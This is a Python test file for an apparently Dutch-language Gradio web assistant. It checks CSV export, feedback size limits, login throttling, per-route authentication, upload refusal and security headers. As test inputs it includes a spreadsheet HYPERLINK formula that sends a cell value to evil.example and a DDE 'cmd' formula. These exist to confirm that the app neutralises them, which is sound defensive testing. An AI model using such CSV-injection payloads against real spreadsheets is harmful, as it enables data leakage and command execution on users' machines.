"""The holes an attacker finds, closed: CSV formulas, unbounded feedback, uploads, routes without login,
password guessing, and missing security headers.

Run:  .venv/bin/python -m pytest -q tests/test_ui_security.py        (-m unit: the ones without the model)
The server tests drive the real app (the real assistant on the real index) in-process through Starlette's
TestClient; the route test walks the server's own route table, so a route Gradio adds later is covered too.
"""
from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from fastapi.routing import iter_route_contexts
from starlette.routing import Mount
from starlette.testclient import TestClient

from ui.feedback import (MAX_COMMENT, MAX_HISTORY_ITEM, MAX_HISTORY_TURNS, MAX_PASSAGES, MAX_QUERY, MAX_SHORT,
                         FeedbackStore)
from ui.login import FIRST_DELAY_S, FREE_FAILURES, MAX_DELAY_S, LoginThrottle
from ui.security import SECURITY_HEADERS

REPO = Path(__file__).resolve().parent.parent
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
USERS = [("anna", "geheim")]


def _export_via_cli(db: Path) -> list[dict[str, str]]:
    env = {**os.environ, "KB_FEEDBACK_DB": str(db)}
    done = subprocess.run([sys.executable, "-m", "ui", "feedback", "export"], cwd=REPO, env=env,
                          capture_output=True, timeout=60)
    assert done.returncode == 0, done.stderr
    return list(csv.DictReader(io.StringIO(done.stdout.decode("utf-8"), newline="")))  # keep a lone CR


@pytest.mark.unit
def test_exported_csv_neutralises_formulas_in_every_cell(tmp_path):
    db = tmp_path / "feedback.sqlite3"
    FeedbackStore(db).add(query=HYPERLINK, history=["+1+1", "-2"], rating="klopt", comment="@SUM(A1:A9)",
                          passages=[{"unit_id": "atlas:q31", "citation": "=cmd|' /C calc'!A0"}],
                          reply_kind="\tlookup", user="\rbob", version={"model": "test"})
    row = _export_via_cli(db)[0]
    assert row["query"] == "'" + HYPERLINK
    assert row["comment"] == "'@SUM(A1:A9)"
    assert row["reply_kind"] == "'\tlookup" and row["user"] == "'\rbob"
    for name, cell in row.items():  # no cell of any column starts a formula
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
    assert json.loads(row["history"]) == ["+1+1", "-2"]  # JSON cells start with '[' and stay parseable


@pytest.mark.unit
def test_a_one_megabyte_question_stores_at_most_the_stated_limits(tmp_path):
    check_the_caps(FeedbackStore(tmp_path / "feedback.sqlite3"))


def check_the_caps(store) -> None:
    """Store one reply of a megabyte in every field; the stored row holds the stated limits (either store)."""
    huge = "x" * 1_000_000
    store.add(query=huge, history=[huge] * 50, passages=[{"unit_id": huge, "citation": huge}] * 500,
              rating="klopt", comment=huge, version={"model": huge}, reply_kind=huge, user=huge)
    row = store.rows()[0]
    assert len(row.query) == MAX_QUERY and len(row.comment) == MAX_COMMENT
    history = json.loads(row.history)
    assert len(history) == MAX_HISTORY_TURNS and all(len(q) == MAX_HISTORY_ITEM for q in history)
    assert len(json.loads(row.passages)) == MAX_PASSAGES
    assert len(row.user) == MAX_SHORT and len(row.reply_kind) == MAX_SHORT
    total = sum(len(str(value)) for value in row.__dict__.values())
    assert total < 40_000, total  # the bound stated in docs/ui-answer.md


@pytest.mark.unit
def test_failed_logins_are_slowed_down_per_user_and_per_address():
    now = [1000.0]
    throttle = LoginThrottle(clock=lambda: now[0])
    for _ in range(FREE_FAILURES):
        assert throttle.wait("anna", "10.0.0.1") == 0
        throttle.failed("anna", "10.0.0.1")
    assert throttle.wait("anna", "10.0.0.1") == FIRST_DELAY_S
    assert throttle.wait("anna", "10.9.9.9") > 0  # same user, other address
    assert throttle.wait("bob", "10.0.0.1") > 0  # same address, other user
    assert throttle.wait("bob", "10.9.9.9") == 0
    for _ in range(20):
        now[0] += throttle.wait("anna", "10.0.0.1")
        throttle.failed("anna", "10.0.0.1")
    assert throttle.wait("anna", "10.0.0.1") == MAX_DELAY_S  # doubling, capped
    throttle.succeeded("anna", "10.0.0.1")
    assert throttle.wait("anna", "10.0.0.1") == 0


# --- the real server, in-process ------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def servers(bot, tmp_path_factory):
    """(open server, server with login) around the real app, each with a private feedback database."""
    from ui.app import create_app
    from ui.server import build_server

    tmp = tmp_path_factory.mktemp("security")
    open_app = build_server(create_app(bot, FeedbackStore(tmp / "open.sqlite3")))
    login_app = build_server(create_app(bot, FeedbackStore(tmp / "login.sqlite3"), login=True), USERS)
    return open_app, login_app


def all_routes(app, prefix: str = "") -> list[tuple[str, str]]:
    """(method, path) for every route in the app's route table, mounted sub-apps included."""
    found = []
    for route in iter_route_contexts(app.routes):  # FastAPI's public walk, included routers expanded
        if isinstance(route.original_route, Mount):
            found += all_routes(route.original_route.app, prefix + route.original_route.path)
            continue
        path = prefix + (route.path or "")
        methods = getattr(route, "methods", None) or {"GET"}  # websocket routes: an HTTP GET is refused too
        found += [(method, path) for method in sorted(methods - {"HEAD"})]
    return found


def _concrete(path: str) -> str:
    """Fill path parameters ({name} or {name:path}) with a harmless value."""
    while "{" in path:
        start = path.index("{")
        path = path[:start] + "x" + path[path.index("}", start) + 1:]
    return path or "/"


def test_every_route_refuses_a_request_without_login(servers):
    _, login_app = servers
    routes = all_routes(login_app)
    assert len(routes) > 40 and ("POST", "/gradio_api/queue/join") in routes
    assert any(path.startswith("/gradio_api/heartbeat") for _, path in routes)
    with TestClient(login_app) as client:
        wrong = [(method, path, response.status_code) for method, path in routes
                 if (response := client.request(method, _concrete(path))).status_code not in (401, 403)]
        assert not wrong, wrong
        page = client.get("/", headers={"accept": "text/html"})
        assert page.status_code == 401 and "Gebruikersnaam" in page.text and 'lang="nl"' in page.text


def test_login_opens_the_app_and_logout_closes_it(servers):
    _, login_app = servers
    with TestClient(login_app) as client:
        response = client.post("/login", data={"username": "anna", "password": "geheim"}, follow_redirects=False)
        assert response.status_code == 303 and "httponly" in response.headers["set-cookie"].lower()
        assert client.get("/config").status_code == 200
        assert "Uitloggen" in client.get("/config").text
        assert client.get("/logout", follow_redirects=False).status_code == 303
        assert client.get("/config").status_code == 401


def test_twenty_wrong_passwords_in_a_row_are_slowed_down(servers):
    _, login_app = servers
    statuses = []
    with TestClient(login_app, client=("10.1.2.3", 5000)) as client:
        for _ in range(20):
            wrong = client.post("/login", data={"username": "anna", "password": "fout"})
            statuses.append(wrong.status_code)
        right = client.post("/login", data={"username": "anna", "password": "geheim"}, follow_redirects=False)
    assert statuses[:FREE_FAILURES] == [401] * FREE_FAILURES
    assert statuses.count(429) >= 20 - FREE_FAILURES - 1  # refused unchecked while waiting
    assert right.status_code == 429 and int(right.headers["retry-after"]) >= 1  # even the right password
    assert "Te veel mislukte pogingen" in right.text


def test_uploads_are_refused_without_and_with_login(servers):
    open_app, login_app = servers
    files = {"files": ("a.txt", b"x" * 200_000, "text/plain")}
    with TestClient(open_app) as client:
        assert client.post("/gradio_api/upload", files=files).status_code == 403
        assert client.get("/").status_code == 200
    with TestClient(login_app) as client:
        client.post("/login", data={"username": "anna", "password": "geheim"})
        assert client.post("/gradio_api/upload", files=files).status_code == 403


def test_every_response_carries_the_security_headers(servers):
    open_app, login_app = servers
    with TestClient(open_app) as client, TestClient(login_app) as login_client:
        responses = [client.get("/"), client.get("/config"), client.get("/gradio_api/info"),
                     client.post("/gradio_api/upload"), login_client.get("/"),
                     login_client.post("/login", data={"username": "x", "password": "y"})]
    for response in responses:
        for name, value in SECURITY_HEADERS.items():
            assert response.headers.get(name) == value, (response.request.url, name)
    csp = SECURITY_HEADERS["content-security-policy"]
    assert "http" not in csp and "*" not in csp and "frame-ancestors 'none'" in csp
